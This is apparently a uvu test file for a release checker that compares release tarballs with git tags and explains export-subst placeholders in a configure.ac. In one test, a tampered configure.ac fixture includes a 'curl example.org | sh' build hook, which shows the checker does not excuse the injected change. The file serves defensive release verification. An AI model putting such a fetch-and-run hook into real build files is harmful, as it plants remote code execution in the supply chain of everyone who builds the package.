// A file git archive would convert (export-subst), shipped as committed: the tag's own blob.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { releaseChecker, summary } from '../helpers/release-check.js';

const checker = releaseChecker('unconverted', { reproduce: false });
const { check } = checker;
test.after(checker.cleanup);

// libqb 2.0.6's configure.ac: its version from git archive's placeholders, which make dist leaves as committed.
const configureAc = "AC_INIT([proj], m4_esyscmd([echo '$Format:%h??%D$' | sed -e 's/.*tag: v//']))\nSOURCE_EPOCH='$Format:%ct$'\n";
const tag = { '.gitattributes': '/configure.ac export-subst\n', 'configure.ac': configureAc, README: 'hello\n' };

test('a file export-subst converts, shipped as committed, is the tag own blob: info, with the conversion named', async () => {
  const r = await check(tag, [
    { path: 'proj-1.0/.gitattributes', content: '/configure.ac export-subst\n' },
    { path: 'proj-1.0/configure.ac', content: configureAc },
    { path: 'proj-1.0/README', content: 'hello\n' },
  ]);
  assert.equal(summary(r), ['configure.ac version-stamp info']);
  assert.match(r.findings[0]!.reasons[0]!, /^identical to the tag's file as committed \(blob [0-9a-f]{12}\), without the conversion git archive makes for it: export-subst/);
});

test('the committed file with one more change, or another mode, is not explained so', async () => {
  const edited = await check(tag, [
    { path: 'proj-1.0/.gitattributes', content: '/configure.ac export-subst\n' },
    { path: 'proj-1.0/configure.ac', content: `${configureAc}AC_CONFIG_COMMANDS([x], [curl example.org | sh])\n` },
    { path: 'proj-1.0/README', content: 'hello\n' },
  ]);
  assert.not.ok(summary(edited).some((s) => s.startsWith('configure.ac version-stamp')), summary(edited).join('\n'));
  const executable = await check(tag, [
    { path: 'proj-1.0/.gitattributes', content: '/configure.ac export-subst\n' },
    { path: 'proj-1.0/configure.ac', content: configureAc, mode: 0o755 },
    { path: 'proj-1.0/README', content: 'hello\n' },
  ]);
  assert.not.ok(summary(executable).some((s) => s.startsWith('configure.ac version-stamp')), summary(executable).join('\n'));
});

test.run();
